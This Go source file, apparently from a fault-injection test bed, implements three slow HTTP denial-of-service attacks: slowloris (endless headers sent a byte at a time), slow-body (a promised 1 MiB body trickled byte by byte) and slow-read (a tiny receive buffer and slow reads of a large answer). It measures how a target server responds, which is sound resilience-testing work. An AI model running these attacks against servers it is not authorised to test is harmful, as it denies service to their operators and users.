package http

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"faultbed/faults/param"
)

// conn is a plain connection whose context ends with the attack or with it.
type conn struct {
	net.Conn
	ctx context.Context
}

// dial opens one.
func (x *attack) dial(ctx context.Context) (conn, error) {
	d := net.Dialer{Timeout: time.Second}
	c, err := d.DialContext(ctx, "tcp", x.Addr)
	if err != nil {
		return conn{}, err
	}
	ctx, cancel := context.WithCancel(ctx)
	context.AfterFunc(ctx, func() { c.Close() })
	return conn{ended{c, cancel}, ctx}, nil
}

// ended cancels when its connection is closed.
type ended struct {
	net.Conn
	cancel context.CancelFunc
}

func (e ended) Close() error { e.cancel(); return e.Conn.Close() }

// listen ends the connection when the subject does, and says how it did.
func (x *attack) listen(c conn) {
	answer := make([]byte, 4096)
	n, err := c.Read(answer)
	switch {
	case c.ctx.Err() != nil:
		return
	case n > 0:
		line, _, _ := bytes.Cut(answer[:n], []byte("\r\n"))
		x.saw("answered "+status(string(line)), 1)
	case err == io.EOF:
		x.saw("closed by the subject", 1)
	default:
		x.saw("reset by the subject", 1)
	}
	c.Close()
}

// status is the second word of a status line.
func status(line string) string {
	if words := strings.Fields(line); len(words) > 1 && strings.HasPrefix(line, "HTTP/") {
		return words[1]
	}
	return "no HTTP"
}

// trickle sends one byte after the other from text, round and round, and counts
// the connection once the subject has let it be for a second byte.
func (x *attack) trickle(ctx context.Context, c conn, text string) {
	go x.listen(c)
	sent := 0
	x.paced(ctx, func(n int) error {
		for range n {
			if _, err := c.Write([]byte{text[sent%len(text)]}); err != nil {
				return err
			}
			if sent++; sent == 2 {
				x.saw("connections", 1)
			}
		}
		x.saw("bytes sent", int64(n))
		return nil
	})
}

const held = "a connection that took a second byte and was not ended before it"

// slowloris never ends a head (RFC 9112 §9.5 leaves it to a server when to give up).
var slowloris = Kind{Name: "slowloris", Sentence: "opens connections and sends heads a byte at a time, which never end", Touches: "connections", Bites: held,
	Params: []param.Param{connections(50), rate(200, "bytes")},
	slow: func(ctx context.Context, a *attack, c conn) {
		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n", a.path("short", "size=64"), a.Addr); err == nil {
			a.trickle(ctx, c, "X-Slow: a\r\n")
		}
	}}

// slowBody promises a body and sends it a byte at a time.
var slowBody = Kind{Name: "slow-body", Sentence: "promises bodies of 1 MiB and sends them a byte at a time", Touches: "connections", Bites: held,
	Params: []param.Param{connections(50), rate(200, "bytes")},
	slow: func(ctx context.Context, a *attack, c conn) {
		if _, err := fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 1048576\r\n\r\n", a.path("short", "size=64"), a.Addr); err == nil {
			a.trickle(ctx, c, "a")
		}
	}}

// slowRead asks for much and takes little: its receive buffer is small, so that the
// subject's writes wait for it.
var slowRead = Kind{Name: "slow-read", Sentence: "asks for answers of 4 MiB and reads them a few bytes at a time", Touches: "connections",
	Bites:  "a connection on which the begin of an answer was read",
	Params: []param.Param{connections(20), rate(200, "reads of 16 bytes")},
	slow: func(ctx context.Context, a *attack, c conn) {
		c.Conn.(ended).Conn.(*net.TCPConn).SetReadBuffer(4096)
		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n", a.path("short", "size=4194304"), a.Addr); err != nil {
			return
		}
		first, sip := true, make([]byte, 16)
		a.paced(ctx, func(n int) error {
			for range n {
				m, err := c.Read(sip)
				if err != nil && ctx.Err() == nil {
					a.saw("ended by the subject", 1)
				}
				if err != nil {
					return err
				}
				if first {
					a.saw("connections", 1)
				}
				first = false
				a.saw("bytes read", int64(m))
			}
			return nil
		})
	}}
